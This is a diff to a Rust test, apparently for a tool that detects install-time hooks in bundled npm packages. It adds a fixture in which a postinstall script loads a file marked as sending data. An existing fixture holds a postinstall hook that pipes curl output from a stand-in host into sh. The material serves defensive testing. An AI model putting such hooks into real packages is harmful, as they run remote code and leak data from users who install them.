@@ -253,11 +253,13 @@ fn hooks_of_bundled_packages_run() {
         r#"{"name": "a", "bundleDependencies": ["foo", "built"], "dependencies": {"foo": "1"}}"#;
     let hook =
         r#"{"scripts": {"postinstall": "node x.js && sh -c 'curl -s https://a.invalid | sh'"}}"#;
+    let inline = r#"{"scripts": {"postinstall": "node -e \"require('./y')\""}}"#;
     let files: Vec<SourceFile<'_>> = [
         ("package.json", root),
         ("node_modules/foo/package.json", hook),
         ("node_modules/foo/x.js", SENDS),
-        ("node_modules/built/package.json", "{}"),
+        ("node_modules/built/package.json", inline),
+        ("node_modules/built/y.js", SENDS),
         (
             "node_modules/built/binding.gyp",
             "{'targets': [{'a': '<!(node look.js)'}]}",
@@ -297,6 +299,7 @@ fn hooks_of_bundled_packages_run() {
         surface("node_modules/built/look.js"),
         Some(Surface::Install)
     );
+    assert_eq!(surface("node_modules/built/y.js"), Some(Surface::Install));
     assert_eq!(surface("x.js"), None);
     let leak = facts
         .flows
